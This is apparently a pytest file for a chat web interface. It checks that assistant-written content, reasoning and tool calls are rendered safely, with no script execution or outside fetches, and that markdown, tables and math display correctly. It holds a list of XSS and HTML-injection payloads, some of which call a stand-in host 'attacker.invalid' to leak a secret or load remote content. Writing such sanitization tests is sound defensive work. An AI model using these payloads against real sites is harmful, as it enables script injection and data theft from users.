"""What a model writes is shown and never run."""

from __future__ import annotations

from typing import Any

import pytest

pytestmark = pytest.mark.web

ATTACKS = (
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 2'>",
    "<svg onload='window.hit = 3'></svg>",
    "<svg><script>window.hit = 4</script></svg>",
    "<iframe srcdoc='<script>parent.hit = 5</script>'></iframe>",
    "<a href='javascript:window.hit = 6'>click</a>",
    "[click](javascript:window.hit=7)",
    "[click](JaVaScRiPt:window.hit=8)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](http://attacker.invalid/leak?secret)",
    '![x](x" onerror="window.hit=9)',
    "<details open ontoggle='window.hit = 10'><summary>x</summary></details>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.hit=11></style></mglyph></math>",
    "<style>@import 'http://attacker.invalid/x.css'; body { display: none }</style>",
    "<link rel=stylesheet href=http://attacker.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid/'>",
    "<base href='http://attacker.invalid/'>",
    "<form action='http://attacker.invalid/'><button>x</button></form>",
    "<object data='data:text/html,<script>window.hit=12</script>'></object>",
    "<embed src='javascript:window.hit=13'>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=14>'></noscript>",
    "<div style='background:url(http://attacker.invalid/x)'>x</div>",
    "```html\n</code></pre><script>window.hit = 15</script>\n```",
    "`</code><img src=x onerror=window.hit=16>`",
    "$\\href{javascript:window.hit=17}{x}$",
    "$$\\includegraphics{http://attacker.invalid/x.png}$$",
    '$\\class{x" onmouseover="window.hit=18}{y}$',
    "$<img src=x onerror=window.hit=19>$",
    "\\(\\def\\a{\\a\\a}\\a\\)",
    "<div hx-get='http://attacker.invalid/' hx-trigger='load'>x</div>",
    "<div data-hx-on:load='window.hit=20' hx-on:click='window.hit=21'>x</div>",
    "| a |\n|---|\n| <img src=x onerror=window.hit=22> |",
    '<http://attacker.invalid/"onmouseover="window.hit=23>',
    "[x]: javascript:window.hit=24\n\n[x]",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.hit=25</x:script>",
)


def test_nothing_that_a_model_writes_is_run_or_fetched(site: Any) -> None:
    store = site.store
    conversation, parent = store.create_conversation("", ATTACKS[0], {}), None
    for attack in ATTACKS:
        parent = store.add_message("", conversation, parent, role="user", content=attack)["id"]
        fields = {"role": "assistant", "content": attack, "reasoning": attack, "model": attack[:200]}
        parent = store.add_message("", conversation, parent, **fields)["id"]
        store.update_message("", parent, better=attack)
    call = {"id": ATTACKS[1], "type": "function", "function": {"name": ATTACKS[0], "arguments": ATTACKS[2]}}
    store.add_message("", conversation, parent, role="assistant", tool_calls=[call])
    page = site.open(f"/ui/chat?conversation={conversation}")
    page.locator(".turn.answer").nth(len(ATTACKS)).wait_for()
    for summary in page.locator(".thought summary").all()[:3]:
        summary.click()
    page.wait_for_timeout(1000)
    assert page.evaluate("() => window.hit ?? null") is None
    assert page.url.startswith(site.server.address)
    bad = page.evaluate(
        """() => {
            const elements = [...document.querySelectorAll("#turns *")];
            const forbidden = /^(script|iframe|object|embed|style|link|meta|base|img|image|video)$/i;
            const names = elements.filter((e) => forbidden.test(e.localName));
            const isHandler = (attribute) => /^(on|hx-|data-hx)/i.test(attribute.name);
            const handlers = elements.filter((e) => [...e.attributes].some(isHandler));
            const links = elements.filter((e) => e.href && !/^(https?:|mailto:)/.test(String(e.href)));
            return [...names, ...handlers, ...links].map((e) => e.outerHTML.slice(0, 200));
        }"""
    )
    assert bad == []
    links = page.locator("#turns a").all()
    assert {(link.get_attribute("target"), link.get_attribute("rel")) for link in links} <= {
        ("_blank", "noopener noreferrer nofollow")
    }


def test_markdown_tables_code_and_formulas_are_shown_as_such(site: Any) -> None:
    text = (
        "# 标题\n\n- 一\n- 二\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('<b>')\n```\n\n"
        "行内 $x^2+y^2$ 与\n\n$$\\frac{1}{2}$$\n\n\\(a_1\\) 价格 $5 和 $6，~~删~~ **粗** `code $x$`"
    )
    store = site.store
    conversation = store.create_conversation("", "", {})
    store.add_message("", conversation, None, role="assistant", content=text)
    page = site.open(f"/ui/chat?conversation={conversation}")
    page.locator(".answer math").nth(2).wait_for(state="attached")
    counts = {
        name: page.locator(f".answer .body {name}").count() for name in ("h1", "li", "table", "pre", "math", "del, s")
    }
    assert counts == {"h1": 1, "li": 2, "table": 1, "pre": 1, "math": 3, "del, s": 1}
    assert "$5 和 $6" in page.locator(".answer .body").inner_text()
    assert page.locator(".answer pre").inner_text() == "print('<b>')\n"
